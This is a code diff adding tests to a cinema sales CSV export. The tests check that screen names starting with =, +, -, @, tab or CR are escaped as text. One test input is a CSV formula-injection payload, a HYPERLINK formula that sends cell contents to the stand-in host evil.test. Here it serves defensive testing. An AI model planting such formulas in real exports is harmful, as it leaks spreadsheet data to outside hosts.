@@ -3,6 +3,7 @@
 import { randomUUID } from 'node:crypto';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { hashPassword } from '../auth/password';
+import { salesCsv } from './sales';
 import { seedCinema } from '../test/fixtures';
 import { refusal } from '../test/refusal';
 import { cookieJar, createStaffClient } from '../test/staff-client';
@@ -180,6 +181,53 @@ describe('sales', () => {
     );
     expect(lines).toContain('day,2026-11-20,,5,1550.00,700.00,850.00,,,');
     expect(lines.find((l) => l.startsWith('show,'))).toMatch(/,Audi 2,6,1500.00,,,90,6,6.7$/);
+  });
+
+  it('writes a screen named like a formula as text, not a live formula, in the CSV', async () => {
+    const screen = await ctx.prisma.screen.findFirstOrThrow({ where: { name: 'Audi 2' } });
+    await ctx.prisma.screen.update({
+      where: { id: screen.id },
+      data: { name: '=HYPERLINK("http://evil.test/?"&A1,"Click")' },
+    });
+    try {
+      const cookie = [...cookieJar(manager)].map(([k, v]) => `${k}=${v}`).join('; ');
+      const res = await fetch(`${server.url}/manager/sales.csv?from=2026-11-20&to=2026-11-20`, { headers: { cookie } });
+      const show = (await res.text()).split('\n').find((l) => l.startsWith('show,'));
+      expect(show).toContain(`,"'=HYPERLINK(""http://evil.test/?""&A1,""Click"")",6,1500.00,`);
+    } finally {
+      await ctx.prisma.screen.update({ where: { id: screen.id }, data: { name: 'Audi 2' } });
+    }
+  });
+
+  it('escapes every formula start (= + - @ tab CR) in text, and leaves negative figures numbers', () => {
+    const figures = { tickets: 0, grossPaise: 0, refundedPaise: 70_000, netPaise: -70_000, bookings: 1 };
+    const names = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', 'Audi 3'];
+    const csv = salesCsv({
+      from: '2026-11-20',
+      to: '2026-11-20',
+      timeZone: 'Asia/Kolkata',
+      totals: figures,
+      byChannel: { KIOSK: figures, WEB: figures },
+      byDay: [{ ...figures, date: '2026-11-20' }],
+      showtimes: names.map((screenName) => ({
+        showtimeId: randomUUID(),
+        movieTitle: 'A film',
+        screenName,
+        startsAt: '2026-11-20T10:00:00.000Z',
+        cancelled: false,
+        capacity: 10,
+        sold: 0,
+        blocked: 0,
+        revenuePaise: 0,
+      })),
+    });
+    expect(csv).toContain('day,2026-11-20,,0,0.00,700.00,-700.00,,,\n');
+    const screens = csv
+      .trim()
+      .split(/\n(?=show,)/)
+      .filter((l) => l.startsWith('show,'))
+      .map((l) => l.split(',')[2]);
+    expect(screens).toEqual(["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\t=1", `"'\r=1"`, 'Audi 3']);
   });
 
   it('refuses a backwards or too long range with a clear message', async () => {
